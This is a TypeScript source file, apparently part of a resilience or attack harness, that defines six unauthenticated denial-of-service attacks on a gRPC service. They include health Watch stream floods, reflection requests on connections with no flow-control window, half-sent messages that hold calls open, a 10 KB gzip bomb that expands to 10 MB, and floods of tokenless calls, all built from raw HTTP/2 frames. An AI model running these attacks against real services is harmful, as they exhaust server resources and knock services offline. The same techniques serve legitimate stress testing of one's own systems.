/** Attacks with gRPC calls that need no token. */
import { gzipSync } from "node:zlib";
import {
  concat,
  DATA,
  END_STREAM,
  type Fields,
  frame,
  grpcMessage,
  INITIAL_WINDOW_SIZE,
  PREFACE,
  settings,
} from "../frames.ts";
import { pause, type Wire } from "../target.ts";
import type { Attack } from "./attack.ts";
import { GROUPS, grpcFields, headers, HEALTH_WATCH, OPENING, REFLECTION } from "./requests.ts";

const STREAMS = 100;

/** 100 calls with the same message in one write. Without `ends` the calls stay open. */
function calls(fields: Fields, message: Uint8Array, { ends = true, first = 1 } = {}): Uint8Array {
  return concat(Array.from({ length: STREAMS }, (_, at) => {
    const stream = first + at * 2;
    return concat([headers(stream, fields), frame(DATA, ends ? END_STREAM : 0, stream, message)]);
  }));
}

/** ServerReflectionRequest.file_containing_symbol (4). */
function fileContaining(symbol: string): Uint8Array {
  const name = new TextEncoder().encode(symbol);
  return grpcMessage(Uint8Array.from([4 << 3 | 2, name.length, ...name]));
}

const ASKS_FOR_CONTRACT = fileContaining("io.shopstar.customer.v1.CustomerService");
const BOMB = grpcMessage(gzipSync(new Uint8Array(10_000_000)), 1);

/** Reflection requests on open streams, without a window for the responses. */
async function askForContracts(wire: Wire): Promise<void> {
  await wire.send(concat([PREFACE, settings([INITIAL_WINDOW_SIZE, 0])]));
  await wire.send(calls(grpcFields(REFLECTION), ASKS_FOR_CONTRACT, { ends: false }));
  const again = concat(
    Array.from({ length: STREAMS }, (_, at) => frame(DATA, 0, at * 2 + 1, ASKS_FOR_CONTRACT)),
  );
  while (wire.credit(0) > 10_000 && await wire.send(again)) {
    for (let at = 0; at < STREAMS; at++) wire.spend(at * 2 + 1, ASKS_FOR_CONTRACT.length);
    await pause(20);
  }
}

export const GRPC: Attack[] = [
  {
    name: "grpc-health-watch",
    sends: "20,000 Watch streams of the health service, 100 on each connection",
    port: "grpc",
    run: (target) => {
      const watches = concat([OPENING, calls(grpcFields(HEALTH_WATCH), grpcMessage())]);
      return target.crowd(200, (wire) => wire.send(watches));
    },
  },
  {
    name: "grpc-reflection-unread",
    sends: "reflection requests without end on ten connections that give no window",
    port: "grpc",
    run: (target) => target.crowd(10, askForContracts),
  },
  {
    name: "grpc-reflection-flood",
    sends: "reflection requests that are read, 100 at a time on two connections",
    port: "grpc",
    run: (target) =>
      target.keep(2, async (wire) => {
        await wire.send(OPENING);
        for (let first = 1; !target.signal.aborted; first += STREAMS * 2) {
          if (!await wire.send(calls(grpcFields(REFLECTION), ASKS_FOR_CONTRACT, { first }))) return;
          await pause(50);
        }
      }),
  },
  {
    name: "grpc-half-message",
    sends: "2,000 calls whose message of 16 KB does not come, on twenty connections",
    port: "grpc",
    run: (target) => {
      const promised = Uint8Array.of(0, 0, 0, 0x40, 0, 0);
      const begun = concat([OPENING, calls(grpcFields(GROUPS), promised, { ends: false })]);
      return target.crowd(20, (wire) => wire.send(begun));
    },
  },
  {
    name: "grpc-gzip-bomb",
    sends: "messages of 10 KB that are 10 MB once decompressed",
    port: "grpc",
    run: (target) => {
      const fields = grpcFields(GROUPS, [["grpc-encoding", "gzip"]]);
      return target.keep(2, async (wire) => {
        await wire.send(OPENING);
        for (let stream = 1; !target.signal.aborted; stream += 2) {
          if (wire.credit(0) < BOMB.length) return;
          wire.spend(stream, BOMB.length);
          const call = concat([headers(stream, fields), frame(DATA, END_STREAM, stream, BOMB)]);
          if (!await wire.send(call)) return;
          await pause(5);
        }
      });
    },
  },
  {
    name: "grpc-refused-flood",
    sends: "calls without a token, 100 at a time on two connections",
    port: "grpc",
    run: (target) =>
      target.keep(2, async (wire) => {
        await wire.send(OPENING);
        for (let first = 1; !target.signal.aborted; first += STREAMS * 2) {
          if (!await wire.send(calls(grpcFields(GROUPS), grpcMessage(), { first }))) return;
          await pause(100);
        }
      }),
  },
];
